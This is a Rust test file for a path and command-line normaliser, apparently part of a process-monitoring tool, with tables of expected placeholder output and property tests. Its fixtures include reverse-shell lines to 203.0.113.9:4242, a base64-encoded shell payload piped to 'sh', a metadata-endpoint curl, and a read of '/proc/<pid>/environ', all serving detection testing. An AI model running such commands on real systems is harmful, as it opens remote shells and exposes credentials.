//! The table that documents normalisation, and what holds for any text.

use proptest::prelude::*;

use super::*;

/// What is seen, and what it reads as.
const PATHS: [(&str, &str); 30] = [
    ("", ""),
    ("/usr/bin/bash", "/usr/bin/bash"),
    ("/usr/bin/python3.11", "/usr/bin/python3.11"),
    (
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
    ),
    ("/proc/1234/maps", "/proc/<pid:2>/maps"),
    ("/proc/self/maps", "/proc/self/maps"),
    ("/proc/7/task/12/stat", "/proc/<pid:0>/task/<pid:1>/stat"),
    ("/usr/lib/jvm/17.0.2/bin/java", "/usr/lib/jvm/<version:2>/bin/java"),
    ("/opt/app-1.4.2/bin/run", "/opt/app-<version:2>/bin/run"),
    ("/opt/app/v2.0.0-rc1/run", "/opt/app/<version:3>/run"),
    ("/var/log/app-2026-01-31.log", "/var/log/app-<date:3>.log"),
    ("/var/log/20260131/x", "/var/log/<date:3>/x"),
    ("/backup/2026-01-31T10:00:00Z/db", "/backup/<date:4>/db"),
    ("/data/550e8400-e29b-41d4-a716-446655440000/x", "/data/<uuid:5>/x"),
    ("/objects/da39a3ee5e6b4b0d3255bfef95601890afd80709", "/objects/<hex:5>"),
    ("/cache/deadbeef42/x", "/cache/<hex:3>/x"),
    ("/usr/share/cafebabe", "/usr/share/cafebabe"),
    ("/tmp/tmp.aB3dE5fG7h", "/tmp/tmp.<temp:3>"),
    ("/tmp/tmpx8k2qv_1", "/tmp/tmp<temp:3>"),
    ("/tmp/xK3p9QzR7w", "/tmp/<temp:3>"),
    ("/tmp/install.sh", "/tmp/install.sh"),
    ("/tmp/payload", "/tmp/payload"),
    ("/var/run/12345", "/var/run/<num:2>"),
    ("/spool/job-123/out", "/spool/job-<num:1>/out"),
    ("/spool/job7/out", "/spool/job7/out"),
    ("/spool/worker12345/out", "/spool/worker<num:2>/out"),
    ("/größe/日本語/\u{202e}x", "/größe/日本語/\u{202e}x"),
    ("relative/1234", "relative/<num:2>"),
    ("//double//1234/", "//double//<num:2>/"),
    ("/tmp/<temp:3>", "/tmp/<temp:3>"),
];

/// Command lines, their arguments with ` ¦ ` between.
const COMMANDS: [(&str, &str); 30] = [
    ("sleep ¦ 3600", "sleep ¦ <num:2>"),
    ("head ¦ -n ¦ 5", "head ¦ -n ¦ 5"),
    ("head ¦ -n100", "head ¦ -n100"),
    ("kill ¦ -9 ¦ 4711", "kill ¦ -9 ¦ <num:2>"),
    ("nc ¦ 10.0.0.7 ¦ 4242", "nc ¦ <ip4-private:3> ¦ <num:2>"),
    ("nc ¦ 203.0.113.9 ¦ 4242", "nc ¦ <ip4-public:3> ¦ <num:2>"),
    (
        "curl ¦ http://169.254.169.254/latest",
        "curl ¦ http://<ip4-link:3>/latest",
    ),
    (
        "curl ¦ http://127.0.0.1:8080/x",
        "curl ¦ http://<ip4-loopback:3>:<num:2>/x",
    ),
    ("ping ¦ 2001:db8::1", "ping ¦ <ip6:3>"),
    ("date ¦ -d ¦ 2026-01-31", "date ¦ -d ¦ <date:3>"),
    ("date ¦ +%H ¦ 10:30:00", "date ¦ +%H ¦ <date:3>"),
    (
        "git ¦ show ¦ da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "git ¦ show ¦ <hex:5>",
    ),
    ("run ¦ --id=550e8400-e29b-41d4-a716-446655440000", "run ¦ --id=<uuid:5>"),
    ("run ¦ --out=/tmp/tmp.aB3dE5fG7h", "run ¦ --out=/tmp/tmp.<temp:3>"),
    ("cat ¦ /proc/4711/environ", "cat ¦ /proc/<pid:2>/environ"),
    ("apt ¦ install ¦ nginx=1.24.0", "apt ¦ install ¦ nginx=<version:2>"),
    ("dd ¦ bs=4096 ¦ count=12", "dd ¦ bs=<num:2> ¦ count=<num:1>"),
    ("printf ¦ 0xdeadbeef", "printf ¦ <hex:3>"),
    ("python3 ¦ /app/main.py ¦ 2026", "python3 ¦ /app/main.py ¦ <num:2>"),
    // Programs stay as they are.
    ("bash ¦ -c ¦ sleep 3600", "bash ¦ -c ¦ sleep 3600"),
    (
        "bash ¦ -lc ¦ exec 5<>/dev/tcp/203.0.113.9/4242",
        "bash ¦ -lc ¦ exec 5<>/dev/tcp/203.0.113.9/4242",
    ),
    (
        "python3.11 ¦ -c ¦ s.connect(('203.0.113.9',4242))",
        "python3.11 ¦ -c ¦ s.connect(('203.0.113.9',4242))",
    ),
    ("perl ¦ -e ¦ print 1234", "perl ¦ -e ¦ print 1234"),
    ("perl ¦ -e'print 1234'", "perl ¦ -e'print 1234'"),
    ("node ¦ --eval=f(1234)", "node ¦ --eval=f(1234)"),
    ("env ¦ X=1234 ¦ sh ¦ -c ¦ 1234", "env ¦ X=<num:2> ¦ sh ¦ -c ¦ 1234"),
    ("busybox ¦ sh ¦ -c ¦ 1234", "busybox ¦ sh ¦ -c ¦ 1234"),
    ("xargs ¦ eval ¦ 1234 ¦ 5678", "xargs ¦ eval ¦ 1234 ¦ 5678"),
    ("tool ¦ echo 1234 | sh", "tool ¦ echo 1234 | sh"),
    // Not programs, although a flag ends in c.
    ("gcc ¦ -c ¦ file1234.c", "gcc ¦ -c ¦ file<num:2>.c"),
];

fn split(line: &str) -> Vec<String> {
    line.split(" ¦ ").map(str::to_owned).collect()
}

#[test]
fn paths_read_as_the_table_says() {
    for (seen, expected) in PATHS {
        assert_eq!(path(seen), expected, "{seen}");
    }
}

#[test]
fn command_lines_read_as_the_table_says() {
    for (seen, expected) in COMMANDS {
        assert_eq!(command_line(split(seen)), split(expected), "{seen}");
    }
}

#[test]
fn a_longer_number_is_another_class_of_number() {
    assert_ne!(path("/x/12"), path("/x/123456"));
    assert_eq!(path("/x/123456"), path("/x/654321"));
}

#[test]
fn encoded_payloads_leave_a_trace_of_their_class_and_size() {
    let base64 = "IyEvYmluL3NoCmV4ZWMgNTw+L2Rldi90Y3AvMjAzLjAuMTEzLjkvNDI0MjtzaCA8JjUgPiY1IDI+JjUK".repeat(4);
    let hex = "23212f62696e2f73680a6578656320353c3e2f6465762f7463702f3230332e302e3131332e39".repeat(4);
    let escaped = r"\x23\x21\x2f\x62\x69\x6e\x2f\x73\x68\x0a".repeat(12);
    for payload in [&base64, &hex, &escaped] {
        for command in [
            split(&format!("bash ¦ -c ¦ echo {payload} | base64 -d | sh")),
            split(&format!("python3 ¦ -c ¦ exec(decode('{payload}'))")),
            split(&format!("perl ¦ -e ¦ eval pack('H*','{payload}')")),
            split(&format!("tool ¦ {payload}")),
        ] {
            let written = command_line(command.clone());
            let without: Vec<String> = command
                .iter()
                .map(|argument| argument.replace(payload.as_str(), ""))
                .collect();
            let short: Vec<String> = command
                .iter()
                .map(|argument| argument.replace(payload.as_str(), "aGk="))
                .collect();
            assert_ne!(written, command_line(without), "{written:?}");
            assert_ne!(written, command_line(short), "{written:?}");
            let text = written.join(" ");
            let traced = text.contains(payload.as_str())
                || ["<base64:8>", "<hex:8>", "<token:8>"]
                    .iter()
                    .any(|trace| text.contains(trace));
            assert!(traced, "{text}");
        }
    }
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[a-zA-Z0-9/._:=<>-]{0,40}",
        "[0-9a-f:.-]{0,40}",
        "(password|token|-p|-u|bearer|eval|-c|mysql|curl|AKIA|://|@|<num:2>|<secret:3>|=|:|'|\"| |\\$|[A-Za-z0-9]{20}){0,8}",
    ]
}

proptest! {
    #[test]
    fn the_template_of_a_path_is_its_own_template(text in piece()) {
        let once = template_path(&text);
        prop_assert_eq!(template_path(&once), once);
    }

    #[test]
    fn the_template_of_a_command_line_is_its_own_template(argv in prop::collection::vec(piece(), 0..6)) {
        let once = template_argv(argv);
        prop_assert_eq!(template_argv(once.clone()), once);
    }

    #[test]
    fn a_command_line_that_was_normalised_stays_as_it_is(argv in prop::collection::vec(piece(), 0..6)) {
        let once = command_line(argv);
        prop_assert_eq!(command_line(once.clone()), once);
    }

    #[test]
    fn a_path_that_was_normalised_stays_as_it_is(text in piece()) {
        let once = path(&text);
        prop_assert_eq!(path(&once), once);
    }
}
